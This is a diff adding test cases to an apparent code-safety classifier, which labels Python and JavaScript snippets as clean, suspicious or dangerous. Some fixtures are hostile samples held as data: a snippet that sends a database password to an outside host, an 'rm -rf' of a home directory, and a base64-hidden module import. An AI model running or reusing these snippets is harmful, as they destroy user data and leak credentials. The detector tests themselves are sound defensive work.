@@ -10417,6 +10417,12 @@ fn a_database_connection_made_with_a_secret_returns_no_secret() {
             Dangerous,
             "exfiltration",
         ),
+        (
+            Js,
+            "const { Pool } = require('pg');\nconst pool = new Pool({ host: 'db.metrics-collector.net', password: process.env.PGPASSWORD });\npool.query('select 1').then((r) => console.log(r.rows));\n".to_owned(),
+            Dangerous,
+            "exfiltration",
+        ),
     ];
     for (lang, code, verdict, category) in rows {
         check(lang, &code, verdict, category);
@@ -10569,6 +10575,114 @@ fn sql_given_to_a_database_cli_from_another_language_is_judged() {
             format!("{helpers}spawn(psql_argv(sys.argv[1], 'SELECT count(*) FROM orders'))\n"),
             Clean,
             "",
+        ),
+    ];
+    for (lang, code, verdict, category) in rows {
+        check(lang, &code, verdict, category);
+    }
+}
+
+/// A service started in its own session whose whole process group the script stops
+/// (`os.killpg(proc.pid, ...)`) is the script's own and ends with it; one started the same way
+/// and never stopped is still meant to outlive the run.
+#[test]
+fn a_detached_service_whose_session_the_script_kills_is_its_own() {
+    let start = "import os\nimport signal\nimport subprocess\n\nproc = subprocess.Popen(['./target/release/server'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n";
+    let rows: Vec<(Language, String, Verdict, &str)> = vec![
+        (
+            Py,
+            format!(
+                "{start}try:\n    subprocess.run(['curl', '-fsS', 'http://127.0.0.1:8080/health'], check=True)\nfinally:\n    os.killpg(proc.pid, signal.SIGTERM)\n    proc.wait(timeout=10)\n"
+            ),
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            format!(
+                "{start}try:\n    subprocess.run(['curl', '-fsS', 'http://127.0.0.1:8080/health'], check=True)\nfinally:\n    os.killpg(os.getpgid(proc.pid), signal.SIGKILL)\n"
+            ),
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            format!("{start}print('started', proc.pid)\n"),
+            Suspicious,
+            "escape",
+        ),
+        (
+            Py,
+            format!(
+                "{start}other = subprocess.Popen(['sleep', '1'], start_new_session=True)\nos.killpg(other.pid, signal.SIGTERM)\n"
+            ),
+            Suspicious,
+            "escape",
+        ),
+    ];
+    for (lang, code, verdict, category) in rows {
+        check(lang, &code, verdict, category);
+    }
+}
+
+/// `shutil.which(NAME)` of a known name is where that program is on PATH: an argument vector
+/// it starts runs that program (judged as such), not a name built at run time.
+#[test]
+fn a_program_found_with_shutil_which_is_that_program() {
+    let rows: Vec<(Language, String, Verdict, &str)> = vec![
+        (
+            Py,
+            "import shutil\nimport subprocess\nimport sys\n\ndef require_tool(name):\n    path = shutil.which(name)\n    if not path:\n        raise SystemExit(f'{name} is not installed')\n    return path\n\ndef vault(*args):\n    return subprocess.run([require_tool('vault'), *args], capture_output=True, text=True)\n\nvault('kv', 'get', 'secret/dev/app')\nsubprocess.run([require_tool('openssl'), 'version'])\n".to_owned(),
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import shutil\nimport subprocess\n\nexe = shutil.which('rm')\nsubprocess.run([exe, '-rf', '/home/dev'])\n".to_owned(),
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import shutil\nimport subprocess\nimport sys\n\nexe = shutil.which(sys.argv[1])\nsubprocess.run([exe, 'version'])\n".to_owned(),
+            Suspicious,
+            "remote-code",
+        ),
+    ];
+    for (lang, code, verdict, category) in rows {
+        check(lang, &code, verdict, category);
+    }
+}
+
+/// `importlib.import_module(f"{PACKAGE}.{name}")` under a fixed package imports one of that
+/// package's modules, whichever name a listing finds; a name computed whole, one under a
+/// module that runs programs, or one decoded at run time still hides what is loaded.
+#[test]
+fn a_module_of_a_fixed_package_imported_by_name_is_that_package_code() {
+    let rows: Vec<(Language, String, Verdict, &str)> = vec![
+        (
+            Py,
+            "import importlib\nimport pkgutil\n\nPACKAGE = 'edgecache.migrations'\npkg = importlib.import_module(PACKAGE)\nfor info in pkgutil.iter_modules(pkg.__path__):\n    module = importlib.import_module(f'{PACKAGE}.{info.name}')\n    module.up()\n".to_owned(),
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import importlib\nimport sys\n\nmodule = importlib.import_module(sys.argv[1])\nmodule.main()\n".to_owned(),
+            Suspicious,
+            "obfuscated-execution",
+        ),
+        (
+            Py,
+            "import importlib\nimport sys\n\nmodule = importlib.import_module(f'os.{sys.argv[1]}')\n".to_owned(),
+            Suspicious,
+            "obfuscated-execution",
+        ),
+        (
+            Py,
+            "import base64\nimport importlib\n\nname = base64.b64decode('c3VicHJvY2Vzcw==').decode()\nmodule = importlib.import_module(f'plugins.{name}')\n".to_owned(),
+            Dangerous,
+            "obfuscated-execution",
         ),
     ];
     for (lang, code, verdict, category) in rows {
